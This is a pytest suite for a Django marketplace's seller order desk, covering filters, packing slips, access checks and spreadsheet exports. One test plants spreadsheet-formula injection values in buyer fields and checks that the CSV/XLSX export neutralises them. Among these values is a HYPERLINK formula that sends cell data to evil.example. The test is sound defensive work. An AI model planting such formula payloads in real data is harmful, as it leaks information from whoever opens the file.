"""A stall's order desk under /my-stall/orders/: filters, each part's items and address, the cash to collect, packing
slips and address labels, and spreadsheets of the stall's own orders with formula-like cells neutralised."""

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from oscar.core.loading import get_model

from shop.fulfilment.models import StallOrder
from tests.shop.checkout.conftest import add_to_basket, check_out

Order = get_model("order", "Order")

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def signed_in(user):
    browser = Client()
    browser.force_login(user)
    return browser


def buy(stalls_products, method="cod", **details):
    """A guest buys one of each product (delivered) through the real checkout forms; returns the order."""
    buyer = Client()
    for product in stalls_products:
        add_to_basket(buyer, product)
    check_out(buyer, [product.storefront for product in stalls_products], method=method, **details)
    return Order.objects.order_by("-pk").first()


@pytest.fixture
def shared_order(honey, tea):
    """Lan's cash-on-delivery order of honey and tea: one part for each stall."""
    return buy([honey, tea])


@pytest.fixture
def honey_desk(honey_owner):
    return signed_in(honey_owner)


def desk(browser, **query):
    return browser.get(reverse("fulfilment-seller:list"), query)


def part_of(order, product):
    return order.stall_orders.get(storefront=product.storefront)


def test_the_desk_shows_each_part_with_its_own_items_the_address_and_the_cash_to_collect(
    honey_desk, shared_order, honey
):
    page = desk(honey_desk).content.decode()

    assert shared_order.number in page
    assert "1 × Mật ong rừng U Minh" in page
    assert "Trà Shan tuyết cổ thụ" not in page
    assert "Nguyễn Thị Lan" in page and "12 Hàng Bạc" in page and "0912345678" in page
    honey_part = part_of(shared_order, honey)
    collect = f"{honey_part.items_total + honey_part.shipping_charge:,}".replace(",", ".")
    assert f"Thu khi giao: {collect}" in page
    tea_total = f"{shared_order.total_incl_tax:,.0f}".replace(",", ".")
    assert tea_total not in page  # the whole order's value (both stalls) is never shown


def test_the_order_page_shows_the_cash_to_collect_before_delivered_is_pressed(honey_desk, shared_order, honey):
    honey_part = part_of(shared_order, honey)
    for action, data in (("confirm", {}), ("ship", {"tracking_number": "GHN-1"})):
        honey_desk.post(reverse("fulfilment-seller:action", kwargs={"pk": honey_part.pk, "action": action}), data)

    page = honey_desk.get(reverse("fulfilment-seller:detail", kwargs={"pk": honey_part.pk})).content.decode()

    amount = f"{honey_part.items_total + honey_part.shipping_charge:,}".replace(",", ".")
    assert 'id="cash-to-collect"' in page and amount in page
    assert page.index('id="cash-to-collect"') < page.index('id="deliver"')


def test_the_desk_filters_by_status_and_by_the_days_orders_were_placed(honey_desk, honey_owner, honey, tea):
    older = buy([honey])
    Order.objects.filter(pk=older.pk).update(date_placed=timezone.now() - timedelta(days=10))
    newer = buy([honey])
    honey_desk.post(reverse("fulfilment-seller:action", kwargs={"pk": part_of(newer, honey).pk, "action": "confirm"}))
    today = timezone.localdate()

    confirmed = desk(honey_desk, status="confirmed").content.decode()
    recent = desk(honey_desk, placed_from=(today - timedelta(days=2)).isoformat()).content.decode()
    long_ago = desk(honey_desk, placed_to=(today - timedelta(days=5)).isoformat()).content.decode()

    assert newer.number in confirmed and older.number not in confirmed
    assert newer.number in recent and older.number not in recent
    assert older.number in long_ago and newer.number not in long_ago


def test_a_date_typed_wrong_is_explained_and_kept_and_the_other_filters_still_apply(honey_desk, honey):
    order = buy([honey])

    response = desk(honey_desk, placed_from="31/02/2026", status="pending")

    assert response.status_code == 400
    page = response.content.decode()
    assert "Nhập một ngày hợp lệ." in page
    assert 'value="31/02/2026"' in page
    assert order.number in page


def test_an_end_date_before_the_start_date_is_refused_with_a_message(honey_desk):
    response = desk(honey_desk, placed_from="2026-12-10", placed_to="2026-12-01")

    assert response.status_code == 400
    assert "Ngày kết thúc phải sau hoặc bằng ngày bắt đầu." in response.content.decode()


def test_packing_slips_and_labels_print_several_parts_at_once(honey_desk, honey):
    first, second = buy([honey]), buy([honey], name="Trần Văn Minh", street="5 Lê Lợi")
    ids = [part_of(first, honey).pk, part_of(second, honey).pk]

    slips = honey_desk.get(reverse("fulfilment-seller:print"), {"ids": ids, "kind": "slip"}).content.decode()
    labels = honey_desk.get(reverse("fulfilment-seller:print"), {"ids": ids, "kind": "label"}).content.decode()

    assert slips.count('data-kind="slip"') == 2 and "fulfilment/print.css" in slips
    assert f"Phiếu đóng gói – đơn {first.number}" in slips and f"Phiếu đóng gói – đơn {second.number}" in slips
    assert "Mật ong rừng U Minh" in slips
    assert labels.count('data-kind="label"') == 2
    assert "Nguyễn Thị Lan" in labels and "Trần Văn Minh" in labels and "5 Lê Lợi" in labels
    assert "Thu khi giao" in labels


def test_a_stall_cannot_print_another_stalls_part_even_beside_its_own(honey_desk, shared_order, honey, tea):
    own, other = part_of(shared_order, honey).pk, part_of(shared_order, tea).pk

    mixed = honey_desk.get(reverse("fulfilment-seller:print"), {"ids": [own, other]})
    alone = honey_desk.get(reverse("fulfilment-seller:print"), {"ids": [other], "kind": "label"})
    nonsense = honey_desk.get(reverse("fulfilment-seller:print"), {"ids": ["abc"]})

    assert (mixed.status_code, alone.status_code, nonsense.status_code) == (404, 404, 404)


def test_printing_nothing_sends_the_member_back_with_a_message(honey_desk):
    response = honey_desk.get(reverse("fulfilment-seller:print"), follow=True)

    assert response.redirect_chain[-1][0] == reverse("fulfilment-seller:list")
    assert "Hãy chọn ít nhất một đơn hàng để in." in response.content.decode()


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_the_export_holds_only_the_stalls_own_lines_of_a_shared_order(honey_desk, shared_order):
    response = honey_desk.get(reverse("fulfilment-seller:export", kwargs={"fmt": "csv"}))

    assert response["Content-Disposition"].startswith('attachment; filename="don-hang-')
    header, *rows = csv_rows(response)
    assert header[0] == "Mã đơn" and "Thu khi giao (đ)" in header
    assert [row[0] for row in rows] == [shared_order.number]
    assert rows[0][9] == "Mật ong rừng U Minh"
    assert "Trà Shan tuyết cổ thụ" not in response.content.decode("utf-8-sig")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_cells_a_buyer_typed_are_neutralised_in_the_export(honey_desk, honey, fmt):
    buy([honey], name=HOSTILE_NAME, street="+84 Hàng Bạc", note="@SUM(1+1)", commune="-2+3")
    order = Order.objects.get()
    part = part_of(order, honey)
    honey_desk.post(reverse("fulfilment-seller:action", kwargs={"pk": part.pk, "action": "confirm"}))
    honey_desk.post(
        reverse("fulfilment-seller:action", kwargs={"pk": part.pk, "action": "ship"}),
        {"tracking_number": "=1+1"},
    )

    response = honey_desk.get(reverse("fulfilment-seller:export", kwargs={"fmt": fmt}))

    if fmt == "csv":
        _, row = csv_rows(response)
    else:
        (_, row), sheet = xlsx_rows(response)
        assert all(cell.data_type != "f" for column in sheet.iter_rows() for cell in column)
    assert row[5] == "'" + HOSTILE_NAME
    assert row[4] == "'=1+1"
    assert row[7].startswith("'+84 Hàng Bạc")
    assert row[8] == "'@SUM(1+1)"
    assert not any(isinstance(cell, str) and cell[:1] in "=+-@\t\r" and cell for cell in row)


def test_the_export_follows_the_desks_filters(honey_desk, honey):
    pending = buy([honey])
    confirmed = buy([honey])
    honey_desk.post(
        reverse("fulfilment-seller:action", kwargs={"pk": part_of(confirmed, honey).pk, "action": "confirm"})
    )

    response = honey_desk.get(reverse("fulfilment-seller:export", kwargs={"fmt": "xlsx"}), {"status": "pending"})

    (header, *rows), _ = xlsx_rows(response)
    assert [row[0] for row in rows] == [pending.number]


def test_an_unknown_export_format_is_not_found(honey_desk):
    assert honey_desk.get(reverse("fulfilment-seller:export", kwargs={"fmt": "pdf"})).status_code == 404


def queries_for(browser, url):
    with CaptureQueriesContext(connection) as queries:
        response = browser.get(url)
    assert response.status_code == 200
    return len(queries)


def test_the_desks_query_count_does_not_grow_with_the_number_of_orders(
    honey_desk, honey, tea, django_assert_max_num_queries
):
    buy([honey, tea])
    url = reverse("fulfilment-seller:list")
    with_one = queries_for(honey_desk, url)
    for _ in range(6):
        buy([honey, tea])

    with django_assert_max_num_queries(with_one):
        response = honey_desk.get(url)

    assert response.content.decode().count('name="ids"') == 7


def test_the_stall_homes_query_count_does_not_grow_with_the_number_of_orders(
    honey_desk, honey, tea, django_assert_max_num_queries
):
    buy([honey, tea])
    url = reverse("storefronts:application")
    with_one = queries_for(honey_desk, url)
    for _ in range(6):
        buy([honey, tea])

    with django_assert_max_num_queries(with_one):
        response = honey_desk.get(url)

    assert 'id="task-confirm"' in response.content.decode()
    assert StallOrder.objects.filter(storefront=honey.storefront).count() == 7


@pytest.mark.parametrize(
    "language, heading, button",
    [
        ("en", "Stall orders", "Print packing slips for the selected orders"),
        ("zh-hans", "店铺订单", "打印所选订单的装箱单"),
    ],
)
def test_the_desk_speaks_the_members_language(honey_desk, honey, language, heading, button):
    buy([honey])

    page = honey_desk.get(f"/{language}/my-stall/orders/").content.decode()

    assert heading in page and button in page
